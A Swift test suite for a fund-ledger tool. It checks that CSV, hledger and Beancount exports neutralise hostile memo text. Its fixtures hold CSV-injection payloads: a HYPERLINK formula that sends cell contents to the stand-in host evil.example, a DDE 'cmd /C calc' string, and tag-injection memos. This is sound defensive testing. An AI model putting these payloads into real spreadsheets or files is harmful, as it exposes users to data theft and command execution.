import Foundation
@testable import FundLedger
import Testing
import TestSupport

/// Hostile text is neutralised on the way out: a CSV cell a spreadsheet would run is inert
/// (OWASP), and a memo or reference cannot give the hledger export tags or comments, or cut
/// its code short. (Control characters reaching a terminal: `HostileTextTests`.)
@Suite struct HostileTextExportTests {
    static let formulaMemo = #"=HYPERLINK("http://evil.example/?"&A1,"Xem")"#
    static let plusReference = "+1+2"
    static let lineMemo = "@SUM(A1:A9)"
    static let minusMemo = "-2+3 cmd|' /C calc'!A0"
    static let tagMemo = "Quà Trung thu ; funder:EVIL, grant:FAKE-1"
    static let cutReference = "PC-1) extra; y:z"

    /// A ledger whose memos and references carry each attack.
    private func books() throws -> TemporaryLedger {
        let fixture = try TemporaryLedger()
        let ledger = fixture.ledger
        let june = LedgerDate(year: 2018, month: 6, day: 1)!
        var income = LineDraft.credit("5132", .vnd(5_000_000))
        income.memo = HostileTextExportTests.lineMemo
        _ = try ledger.post(EntryDraft(date: june, memo: HostileTextExportTests.formulaMemo, externalRef: HostileTextExportTests.plusReference,
                                       lines: [.debit("1121", .vnd(5_000_000)), income]), user: "tester")
        _ = try ledger.post(EntryDraft(date: june, memo: HostileTextExportTests.minusMemo, externalRef: "PC-0",
                                       lines: [.debit("6428", .vnd(1_000)), .credit("1121", .vnd(1_000))]), user: "tester")
        _ = try ledger.post(EntryDraft(date: june, memo: HostileTextExportTests.tagMemo, externalRef: HostileTextExportTests.cutReference,
                                       lines: [.debit("6428", .vnd(2_000)), .credit("1121", .vnd(2_000))]), user: "tester")
        return fixture
    }

    private func fields(_ csv: String) throws -> [String] {
        let reader = CSVReader(source: MemoryByteSource(csv), sourceName: "output.csv")
        var fields: [String] = []
        while let record = try reader.next() { fields += record.fields }
        return fields
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("-", "'-"), ("--x", "'--x"), ("-5000000", "-5000000"), ("-12.50", "-12.50"), ("12", "12"), ("-1.", "'-1."),
        ("-.5", "'-.5"), ("Quỹ", "Quỹ"), ("a=1", "a=1"), ("'=1", "''=1"), ("'-5", "''-5"), ("'x", "'x"),
    ])
    func theOWASPRule(text: String, written: String) {
        #expect(CSVWriter.inert(text) == written)
        #expect(CSVWriter.restored(CSVWriter.inert(text)) == text)
    }

    /// Every CSV cpf writes: the journal, the export, a report, a listing.
    @Test func noCSVCellStartsAFormula() throws {
        let ledger = try books().ledger
        var outputs: [String] = []
        var exported = ""
        try ledger.exportJournal(.csv) { exported += $0 }
        outputs.append(exported)
        let listing = JournalListing(ledger: ledger, language: .vietnamese)
        var journal = listing.begin(.csv)
        try ledger.forEachEntry { journal += listing.render($0, .csv) }
        outputs.append(journal)
        let register = try ledger.accountRegisterReport(accountCode: "1121", from: LedgerDate(year: 2018, month: 1, day: 1)!, to: LedgerDate(year: 2018, month: 12, day: 31)!)
        outputs.append(CSVRenderer().render(register))
        for output in outputs {
            let cells = try fields(output)
            #expect(cells.contains("'" + HostileTextExportTests.formulaMemo) || cells.contains("'" + HostileTextExportTests.minusMemo), "\(output.prefix(400))")
            for cell in cells {
                guard let first = cell.first, CSVWriter.formulaStarts.contains(first) else { continue }
                #expect(CSVWriter.isPlainNumber(cell), "a cell a spreadsheet would run: \(cell)")
            }
        }
    }

    /// `cpf import` takes the guard off: an exported journal imports with its memos as typed.
    @Test func anExportedJournalImportsWithItsTextAsTyped() throws {
        let ledger = try books().ledger
        var exported = ""
        try ledger.exportJournal(.csv) { exported += $0 }
        let other = try TemporaryLedger()
        let path = other.directory.file("export.csv")
        try Data(exported.utf8).write(to: URL(fileURLWithPath: path))
        _ = try other.ledger.importCSV(path: path, format: .entries, user: "tester")
        let memos = try other.ledger.database.rows("SELECT memo FROM entry ORDER BY seq") { $0.text(at: 0) }
        #expect(memos == [HostileTextExportTests.formulaMemo, HostileTextExportTests.minusMemo, HostileTextExportTests.tagMemo])
        let references = try other.ledger.database.rows("SELECT external_ref FROM entry ORDER BY seq") { $0.text(at: 0) }
        #expect(references == [HostileTextExportTests.plusReference, "PC-0", HostileTextExportTests.cutReference])
        let lineMemos = try other.ledger.database.rows("SELECT memo FROM line WHERE memo IS NOT NULL") { $0.text(at: 0) }
        #expect(lineMemos == [HostileTextExportTests.lineMemo])
    }

    private func hledgerText(_ ledger: Ledger) throws -> String {
        var text = ""
        try ledger.exportJournal(.hledger) { text += $0 }
        return text
    }

    /// The transaction line of the tag attack: the memo's `;` is no comment and its
    /// reference is whole.
    @Test func aMemoGivesTheHledgerExportNoTagsAndAReferenceIsNotCutShort() throws {
        let text = try hledgerText(try books().ledger)
        let header = try #require(text.split(separator: "\n").first { $0.contains("Quà Trung thu") }.map(String.init))
        #expect(header == "2018-06-01 * (PC-1） extra； y:z) Quà Trung thu ； funder:EVIL, grant:FAKE-1  ; seq:3", "\(header)")
        #expect(header.filter { $0 == ";" }.count == 1, "only cpf's own comment")
        let formula = try #require(text.split(separator: "\n").first { $0.contains("HYPERLINK") }.map(String.init))
        #expect(formula.hasPrefix("2018-06-01 * (+1+2) =HYPERLINK"))
    }

    @Test(.enabled(if: PeerTool.exists("hledger"), "hledger is not installed: the hledger export is not checked by hledger"))
    func hledgerFindsNoTagAMemoMade() throws {
        let directory = TemporaryDirectory("cpf-hostile")
        let path = directory.file("fund.journal")
        try Data(try hledgerText(try books().ledger).utf8).write(to: URL(fileURLWithPath: path))
        let tags = try PeerTool.run("hledger", ["-f", path, "tags", "--values"])
        #expect(tags.status == 0, "\(tags)")
        #expect(!tags.output.contains("EVIL") && !tags.output.contains("FAKE-1") && !tags.output.contains("z"), "\(tags)")
        let codes = try PeerTool.run("hledger", ["-f", path, "print", "--output-format", "csv"])
        #expect(codes.status == 0 && codes.output.contains("\"PC-1） extra； y:z\""), "\(codes)")
        let evil = try PeerTool.run("hledger", ["-f", path, "register", "tag:funder=EVIL"])
        #expect(evil.status == 0 && evil.output.isEmpty, "\(evil)")
    }

    /// Beancount strings are quoted and escaped: a memo's `;`, `#tag` or quotes stay text.
    @Test func aMemoStaysInsideItsBeancountString() throws {
        let fixture = try books()
        _ = try fixture.ledger.post(EntryDraft(date: LedgerDate(year: 2018, month: 6, day: 2)!, memo: #"x" #evil ; y:"z"#,
                                               lines: [.debit("6428", .vnd(3_000)), .credit("1121", .vnd(3_000))]), user: "tester")
        var text = ""
        try fixture.ledger.exportJournal(.beancount) { text += $0 }
        #expect(text.contains(#"2018-06-02 * "x\" #evil ; y:\"z""#), "\(text)")
        #expect(text.contains(#"2018-06-01 * "Quà Trung thu ; funder:EVIL, grant:FAKE-1""#))
        #expect(text.contains(#"  ref: "PC-1) extra; y:z""#))
    }
}
